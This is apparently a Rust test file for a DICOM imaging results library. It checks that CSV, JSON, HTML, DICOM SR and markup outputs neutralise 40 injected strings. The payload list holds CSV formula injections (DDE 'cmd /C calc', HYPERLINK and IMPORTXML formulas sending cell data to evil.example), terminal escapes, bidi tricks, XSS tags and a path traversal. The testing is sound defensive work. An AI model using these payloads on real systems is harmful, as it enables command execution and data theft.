//! What a name or a title holds is shown, and never obeyed: 40 payloads through every output.
#![allow(missing_docs, clippy::unwrap_used, clippy::panic)]

use chrono::DateTime;
use dicom_dictionary_std::tags;
use dicom_object::{InMemDicomObject, from_reader};
use onemark_film::visible::is_hidden;
use onemark_results::json::{self, Document, FilmReport};
use onemark_results::{FORMATS, FilmResults, csv};
use onemark_runtime::Detections;
use onemark_tests::{dicom_film, found};
use serde_json::Value;

const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    " =1+1",
    "\"=1+1",
    "a;=1+1",
    "a\",=1+1",
    "a\n=1+1",
    "a,b\r\n=1+1,2",
    "\u{1b}[2JFor diagnosis.",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{9b}31mred",
    "\u{9d}0;title\u{9c}",
    "\u{90}q\u{9c}",
    "\u{7}\u{8}\u{7f}",
    "a\u{0}b",
    "abc\rxyz",
    "\u{202e}lles\u{202c}",
    "\u{2066}a\u{2069}",
    "\u{200b}\u{feff}sella",
    "a\u{2028}b\u{2029}c",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "]]></style><svg onload=alert(1)>",
    "A\\B\\C",
    "../../etc/passwd",
];

/// Detections whose every text is this.
fn of(payload: &str) -> Detections {
    let mut json = serde_json::to_value(found()).unwrap();
    json["bundle"]["name"] = payload.into();
    json["backend"] = payload.into();
    json["calibration"] = payload.into();
    json["spacing"]["source"] = payload.into();
    for landmark in json["landmarks"].as_array_mut().unwrap() {
        for key in ["name", "title"] {
            landmark[key] = payload.into();
        }
    }
    for (index, measurement) in json["measurements"].as_array_mut().unwrap().iter_mut().enumerate() {
        for key in ["name", "title", "source"] {
            measurement[key] = payload.into();
        }
        // Of those without a value, the reason is shown; others show a class.
        measurement[if index % 2 == 0 { "refused" } else { "note" }] = payload.into();
        measurement["class"] = serde_json::json!({"name": payload});
    }
    serde_json::from_value(json).unwrap()
}

#[test]
fn no_text_of_other_people_is_obeyed_in_any_output() {
    let film = dicom_film();
    for payload in PAYLOADS {
        let detections = of(payload);
        let results =
            FilmResults { detections: &detections, film: &film, name: payload, time: DateTime::UNIX_EPOCH.into() };
        let reports = vec![
            FilmReport::done(payload, 0.5, vec![payload.into()], detections.clone())
                .with_not_written(vec![payload.into()]),
            FilmReport::failed(payload, payload),
        ];
        spreadsheet(payload, &csv::write(&reports).unwrap());
        let document = Document::new(reports);
        let text = json::to_text(&document, true).unwrap();
        shown(payload, "json", &text);
        assert_eq!(Document::read(&text).unwrap(), document, "{payload:?}");
        for format in FORMATS {
            let bytes = (format.write)(&results).unwrap();
            match format.name {
                "overlay" => assert!(bytes.starts_with(b"\x89PNG")),
                "dicom-sr" => texts(payload, &from_reader(bytes.as_slice()).unwrap()),
                name => shown(payload, name, std::str::from_utf8(&bytes).unwrap()),
            }
            if format.name == "mrk-json" {
                let json: Value = serde_json::from_slice(&bytes).unwrap();
                assert_eq!(json["markups"][0]["controlPoints"][0]["label"], payload);
            }
            if format.name == "report" {
                let page = String::from_utf8(bytes).unwrap().to_lowercase();
                for tag in ["<script", "<img", "<svg onload", "</style><svg"] {
                    assert!(!page.contains(tag), "{payload:?}: {tag}");
                }
            }
        }
    }
}

/// Line ends and, in a page, tabs are harmless; nothing that a terminal obeys is left.
fn shown(payload: &str, output: &str, text: &str) {
    let is_harmless = |letter: char| letter == '\n' || (letter == '\t' && output == "report");
    let left = text.chars().find(|letter| is_hidden(*letter) && !is_harmless(*letter));
    assert_eq!(left, None, "{payload:?} in {output}");
}

/// No cell is a formula, whatever separates cells where the table is opened.
fn spreadsheet(payload: &str, bytes: &[u8]) {
    shown(payload, "csv", std::str::from_utf8(bytes).unwrap());
    let mut table = ::csv::Reader::from_reader(bytes);
    let columns = table.headers().unwrap().len();
    let rows: Vec<_> = table.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5, "{payload:?}");
    for cell in rows.iter().flat_map(|row| row.iter()) {
        assert!(!cell.contains(is_hidden), "{payload:?}: {cell:?}");
        for part in cell.split(';').filter(|part| part.parse::<f64>().is_err()) {
            let first = part.trim_start_matches([' ', '"']).chars().next().unwrap_or(' ');
            assert!(!"=+-@＝＋－＠\t\r\n".contains(first), "{payload:?}: {cell}");
        }
    }
    assert!(rows.iter().all(|row| row.len() == columns));
}

/// No text of a report holds a control character, and each that must be one value is one.
fn texts(payload: &str, object: &InMemDicomObject) {
    for tag in [tags::CODE_MEANING, tags::CODE_VALUE, tags::LONG_CODE_VALUE, tags::TEXT_VALUE] {
        if let Ok(element) = object.element(tag) {
            let text = element.to_str().unwrap();
            assert!(!text.contains(is_hidden), "{payload:?}: {text:?}");
            assert!(tag == tags::TEXT_VALUE || !text.contains('\\'), "{payload:?}: {text:?}");
            assert!(tag != tags::CODE_MEANING || text.chars().count() <= 64, "{payload:?}: {text:?}");
        }
    }
    for element in object {
        if let Some(items) = element.items() {
            items.iter().for_each(|item| texts(payload, item));
        }
    }
}
